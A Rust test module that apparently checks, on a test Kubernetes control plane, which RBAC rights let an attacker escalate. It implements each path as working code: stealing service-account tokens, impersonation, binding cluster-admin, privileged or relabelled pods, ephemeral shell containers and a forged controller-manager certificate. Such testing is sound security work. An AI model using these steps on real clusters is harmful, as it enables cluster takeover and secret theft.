use std::pin::Pin;
use std::time::Duration;

use base64::Engine;
use base64::prelude::BASE64_STANDARD;
use merlon_testkit::{ControlPlane, eventually};
use serde_json::{Value, json};

use crate::aggregation::{AGGREGATION, serve_roles};
use crate::attacker::{Attacker, WHO_AM_I};
use crate::conversion::{DEFINITION, DEFINITIONS, convert, operator};

/// API groups, resources, verbs and names, each list with commas.
pub(crate) type Right = (&'static str, &'static str, &'static str, &'static str);

/// Whether the step works, tried out.
type Works<'a> = Pin<Box<dyn Future<Output = bool> + Send + 'a>>;

/// A step, the rights it takes, and how it is carried out.
#[derive(Clone, Copy)]
pub(crate) struct Step {
    pub(crate) name: &'static str,
    /// Each of them is needed.
    pub(crate) rights: &'static [Right],
    pub(crate) cluster_wide: bool,
    /// What is gained, as an endpoint.
    pub(crate) target: &'static str,
    /// The labels of the namespace.
    pub(crate) labels: &'static [(&'static str, &'static str)],
    /// Labels with which it does not work.
    pub(crate) refused_by: Option<&'static [(&'static str, &'static str)]>,
    /// The first minor of Kubernetes in which it works.
    pub(crate) since: u32,
    /// What else is there, besides the usual: of a namespace of that name.
    pub(crate) objects: fn(&str) -> Vec<Value>,
    pub(crate) carry_out: for<'a> fn(&'a ControlPlane, &'a Attacker) -> Works<'a>,
}

const RBAC: &str = "rbac.authorization.k8s.io";
const AUTHENTICATION: &str = "authentication.k8s.io";
const CERTIFICATES: &str = "certificates.k8s.io";
const ENFORCE: &str = "pod-security.kubernetes.io/enforce";

const fn step(
    name: &'static str,
    rights: &'static [Right],
    target: &'static str,
    carry_out: for<'a> fn(&'a ControlPlane, &'a Attacker) -> Works<'a>,
) -> Step {
    let (labels, objects): (&[_], fn(&str) -> Vec<Value>) = (&[], |_| Vec::new());
    let (cluster_wide, refused_by, since) = (false, None, 0);
    Step { name, rights, cluster_wide, target, labels, refused_by, since, objects, carry_out }
}

pub(crate) const STEPS: &[Step] = &[
    step(
        "token-request",
        &[("", "serviceaccounts/token", "create", "")],
        "serviceaccount NAMESPACE/victim",
        |plane, it| Box::pin(request_token(plane, it)),
    ),
    step(
        "token-request-by-name",
        &[("", "serviceaccounts/token", "create", "victim")],
        "serviceaccount NAMESPACE/victim",
        |plane, it| Box::pin(request_token(plane, it)),
    ),
    step(
        "impersonation",
        &[("", "serviceaccounts", "impersonate", "victim")],
        "serviceaccount NAMESPACE/victim",
        |plane, it| Box::pin(impersonate(plane, it)),
    ),
    Step {
        since: 36,
        objects: reading_victim,
        ..step(
            "constrained-impersonation",
            &[
                (AUTHENTICATION, "serviceaccounts", "impersonate:serviceaccount", "victim"),
                ("", "secrets", "impersonate-on:serviceaccount:get", ""),
            ],
            "secret NAMESPACE/database",
            |plane, it| Box::pin(read_as_victim(plane, it)),
        )
    },
    step(
        "secret-minting",
        &[("", "secrets", "create", ""), ("", "secrets", "get", "")],
        "serviceaccount NAMESPACE/victim",
        |plane, it| Box::pin(mint(plane, it)),
    ),
    step(
        "secret-by-name",
        &[("", "secrets", "get", "database")],
        "secret NAMESPACE/database",
        |plane, it| Box::pin(it.can_read(plane, "/api/v1/namespaces/NAMESPACE/secrets/database")),
    ),
    step(
        "secret-list",
        &[("", "secrets", "list", "")],
        "secret NAMESPACE/database",
        |plane, it| Box::pin(it.can_read(plane, "/api/v1/namespaces/NAMESPACE/secrets")),
    ),
    step(
        "role-binding",
        &[(RBAC, "rolebindings", "create", ""), (RBAC, "clusterroles", "bind", "admin")],
        "secrets NAMESPACE",
        |plane, it| Box::pin(bind(plane, it)),
    ),
    Step {
        cluster_wide: true,
        ..step(
            "cluster-role-binding",
            &[(RBAC, "clusterrolebindings", "create", ""), (RBAC, "clusterroles", "bind", "")],
            "cluster-admin",
            |plane, it| Box::pin(bind_everywhere(plane, it)),
        )
    },
    step(
        "role-escalation",
        &[(RBAC, "roles", "get,update", "attacker"), (RBAC, "roles", "escalate", "attacker")],
        "secrets NAMESPACE",
        |plane, it| Box::pin(escalate(plane, it)),
    ),
    Step {
        refused_by: Some(&[(ENFORCE, "baseline")]),
        ..step("privileged-pod", &[("", "pods", "create", "")], "node", |plane, it| {
            Box::pin(run_privileged(plane, it))
        })
    },
    Step {
        labels: &[(ENFORCE, "baseline")],
        ..step(
            "lowered-pod-security",
            &[("", "pods", "create", ""), ("", "namespaces", "patch", "")],
            "node",
            |plane, it| Box::pin(lower_and_run(plane, it)),
        )
    },
    step(
        "workload-as-account",
        &[("apps", "deployments", "create", "")],
        "serviceaccount NAMESPACE/victim",
        |plane, it| Box::pin(deploy(plane, it)),
    ),
    step(
        "ephemeral-container",
        &[("", "pods/ephemeralcontainers", "patch", "")],
        "pod NAMESPACE/web",
        |plane, it| Box::pin(debug(plane, it)),
    ),
    Step {
        cluster_wide: true,
        ..step(
            "certificate",
            &[
                (CERTIFICATES, "certificatesigningrequests", "create,get", ""),
                (CERTIFICATES, "certificatesigningrequests/approval", "update", ""),
                (CERTIFICATES, "signers", "approve", "kubernetes.io/kube-apiserver-client"),
            ],
            "user system:kube-controller-manager",
            |plane, it| Box::pin(certify(plane, it)),
        )
    },
    Step {
        cluster_wide: true,
        ..step(
            "roles-from-elsewhere",
            &[
                (AGGREGATION, "apiservices", "patch", "v1.rbac.authorization.k8s.io"),
                ("", "services", "create", ""),
            ],
            "cluster-admin",
            |plane, it| Box::pin(serve_roles(plane, it)),
        )
    },
    Step {
        cluster_wide: true,
        objects: operator,
        ..step(
            "converted-resources",
            &[(DEFINITIONS, "customresourcedefinitions", "patch", DEFINITION)],
            "serviceaccount NAMESPACE/kustomize-controller",
            |plane, it| Box::pin(convert(plane, it)),
        )
    },
];

async fn request_token(plane: &ControlPlane, attacker: &Attacker) -> bool {
    let path = "/api/v1/namespaces/NAMESPACE/serviceaccounts/victim/token";
    let asked =
        json!({"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest", "spec": {}});
    let (status, answer) = attacker.send(plane, "POST", path, &asked).await;
    status == 200 && counts_as_victim(plane, attacker, &answer["status"]["token"]).await
}

/// Whether the server takes the token for the victim's.
async fn counts_as_victim(plane: &ControlPlane, attacker: &Attacker, token: &Value) -> bool {
    let Some(token) = token.as_str() else { return false };
    let stolen = Attacker {
        namespace: attacker.namespace.clone(),
        token: merlon_testkit::Credential::Token(token.to_owned()),
    };
    // The API server hears of what a controller writes into a secret a moment later.
    let counts = || async {
        let (_, answer) = stolen.send(plane, "POST", WHO_AM_I, &review()).await;
        (answer["status"]["userInfo"]["username"] == attacker.victim()).then_some(())
    };
    eventually(Duration::from_secs(20), counts).await.is_some()
}

fn review() -> Value {
    json!({"apiVersion": "authentication.k8s.io/v1", "kind": "SelfSubjectReview"})
}

async fn impersonate(plane: &ControlPlane, attacker: &Attacker) -> bool {
    let victim = attacker.victim();
    let (_, answer) = attacker.send_as(plane, &victim, "POST", WHO_AM_I, &review()).await;
    answer["status"]["userInfo"]["username"] == victim
}

/// What lets the victim read the secret.
fn reading_victim(namespace: &str) -> Vec<Value> {
    let metadata = json!({"name": "victim", "namespace": namespace});
    vec![
        json!({
            "apiVersion": format!("{RBAC}/v1"), "kind": "Role", "metadata": metadata,
            "rules": [{
                "apiGroups": [""], "resources": ["secrets"], "verbs": ["get"],
                "resourceNames": ["database"],
            }],
        }),
        json!({
            "apiVersion": format!("{RBAC}/v1"), "kind": "RoleBinding", "metadata": metadata,
            "roleRef": {"apiGroup": RBAC, "kind": "Role", "name": "victim"},
            "subjects": [{"kind": "ServiceAccount", "name": "victim", "namespace": namespace}],
        }),
    ]
}

async fn read_as_victim(plane: &ControlPlane, attacker: &Attacker) -> bool {
    let path = "/api/v1/namespaces/NAMESPACE/secrets/database";
    let (status, secret) =
        attacker.send_as(plane, &attacker.victim(), "GET", path, &Value::Null).await;
    status == 200 && secret.get("data").is_some()
}

async fn mint(plane: &ControlPlane, attacker: &Attacker) -> bool {
    let mut metadata = attacker.metadata("minted");
    metadata["annotations"] = json!({"kubernetes.io/service-account.name": "victim"});
    let kind = "kubernetes.io/service-account-token";
    let secret = json!({"apiVersion": "v1", "kind": "Secret", "type": kind, "metadata": metadata});
    let path = "/api/v1/namespaces/NAMESPACE/secrets";
    if !attacker.can_send(plane, "POST", path, &secret).await {
        return false;
    }
    let path = format!("{path}/minted");
    if !attacker.can_read(plane, &path).await {
        return false;
    }
    let token = attacker
        .comes_to_read(plane, &path, |secret| Some(secret["data"]["token"].as_str()?.to_owned()))
        .await;
    let token = token.and_then(|text| BASE64_STANDARD.decode(text).ok());
    let token = token.map(|bytes| json!(String::from_utf8_lossy(&bytes)));
    counts_as_victim(plane, attacker, &token.unwrap_or_default()).await
}

async fn bind(plane: &ControlPlane, attacker: &Attacker) -> bool {
    let binding = json!({
        "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding",
        "metadata": attacker.metadata("gained"),
        "roleRef": {"apiGroup": RBAC, "kind": "ClusterRole", "name": "admin"},
        "subjects": [attacker.subject()],
    });
    let path = "/apis/rbac.authorization.k8s.io/v1/namespaces/NAMESPACE/rolebindings";
    attacker.can_send(plane, "POST", path, &binding).await && reads_secrets(plane, attacker).await
}

/// Whether the new rights count; the authorizer learns of them by a watch.
async fn reads_secrets(plane: &ControlPlane, attacker: &Attacker) -> bool {
    let path = "/api/v1/namespaces/NAMESPACE/secrets/database";
    attacker.comes_to_read(plane, path, |secret| secret.get("data").map(|_| ())).await.is_some()
}

async fn bind_everywhere(plane: &ControlPlane, attacker: &Attacker) -> bool {
    let binding = json!({
        "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding",
        "metadata": {"name": format!("{}-gained", attacker.namespace)},
        "roleRef": {"apiGroup": RBAC, "kind": "ClusterRole", "name": "cluster-admin"},
        "subjects": [attacker.subject()],
    });
    let path = "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings";
    attacker.can_send(plane, "POST", path, &binding).await && reads_secrets(plane, attacker).await
}

async fn escalate(plane: &ControlPlane, attacker: &Attacker) -> bool {
    let path = "/apis/rbac.authorization.k8s.io/v1/namespaces/NAMESPACE/roles/attacker";
    let role = json!({
        "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role",
        "metadata": attacker.metadata("attacker"),
        "rules": [{"apiGroups": [""], "resources": ["secrets"], "verbs": ["*"]}],
    });
    attacker.can_send(plane, "PUT", path, &role).await && reads_secrets(plane, attacker).await
}

fn privileged(attacker: &Attacker) -> Value {
    json!({
        "apiVersion": "v1", "kind": "Pod", "metadata": attacker.metadata("privileged"),
        "spec": {"containers": [{
            "name": "root", "image": "example.com/root:1",
            "securityContext": {"privileged": true},
        }]},
    })
}

async fn run_privileged(plane: &ControlPlane, attacker: &Attacker) -> bool {
    let pod = privileged(attacker);
    attacker.can_send(plane, "POST", "/api/v1/namespaces/NAMESPACE/pods", &pod).await
}

async fn lower_and_run(plane: &ControlPlane, attacker: &Attacker) -> bool {
    let label = json!({"metadata": {"labels": {ENFORCE: "privileged"}}});
    if !attacker.can_send(plane, "PATCH", "/api/v1/namespaces/NAMESPACE", &label).await {
        return false;
    }
    // Admission hears of the label a moment later.
    let runs = || async { run_privileged(plane, attacker).await.then_some(()) };
    eventually(Duration::from_secs(5), runs).await.is_some()
}

async fn deploy(plane: &ControlPlane, attacker: &Attacker) -> bool {
    let labels = json!({"app": "planted"});
    let deployment = json!({
        "apiVersion": "apps/v1", "kind": "Deployment", "metadata": attacker.metadata("planted"),
        "spec": {
            "selector": {"matchLabels": labels},
            "template": {
                "metadata": {"labels": labels},
                "spec": {
                    "serviceAccountName": "victim",
                    "containers": [{"name": "main", "image": "example.com/main:1"}],
                },
            },
        },
    });
    let path = "/apis/apps/v1/namespaces/NAMESPACE/deployments";
    if !attacker.can_send(plane, "POST", path, &deployment).await {
        return false;
    }
    // The attacker may not see the pods: the administrator looks.
    let witness = Attacker {
        namespace: attacker.namespace.clone(),
        token: merlon_testkit::Credential::Admin,
    };
    let pods = "/api/v1/namespaces/NAMESPACE/pods?labelSelector=app%3Dplanted";
    let runs_as = |list: &Value| Some(list["items"].get(0)?["spec"]["serviceAccountName"].clone());
    witness.comes_to_read(plane, pods, runs_as).await == Some(json!("victim"))
}

async fn debug(plane: &ControlPlane, attacker: &Attacker) -> bool {
    let path = "/api/v1/namespaces/NAMESPACE/pods/web/ephemeralcontainers";
    let patch = json!({"spec": {"ephemeralContainers": [
        {"name": "planted", "image": "example.com/shell:1", "targetContainerName": "web"},
    ]}});
    attacker.can_send(plane, "PATCH", path, &patch).await
}

async fn certify(plane: &ControlPlane, attacker: &Attacker) -> bool {
    let key = rcgen::KeyPair::generate().unwrap();
    let mut wanted = rcgen::CertificateParams::default();
    wanted.distinguished_name = rcgen::DistinguishedName::new();
    wanted.distinguished_name.push(rcgen::DnType::CommonName, "system:kube-controller-manager");
    let request = wanted.serialize_request(&key).unwrap().pem().unwrap();
    let path = "/apis/certificates.k8s.io/v1/certificatesigningrequests";
    let (status, mut made) = attacker
        .send(
            plane,
            "POST",
            path,
            &json!({
                "apiVersion": "certificates.k8s.io/v1", "kind": "CertificateSigningRequest",
                "metadata": {"name": attacker.namespace},
                "spec": {
                    "request": BASE64_STANDARD.encode(request),
                    "signerName": "kubernetes.io/kube-apiserver-client",
                    "usages": ["client auth"],
                },
            }),
        )
        .await;
    if status != 200 {
        return false;
    }
    made["status"]["conditions"] =
        json!([{"type": "Approved", "status": "True", "reason": "Test"}]);
    let own = format!("{path}/{}", attacker.namespace);
    if !attacker.can_send(plane, "PUT", &format!("{own}/approval"), &made).await {
        return false;
    }
    let certificate =
        attacker.comes_to_read(plane, &own, |it| it["status"]["certificate"].as_str().map(|_| ()));
    certificate.await.is_some()
}
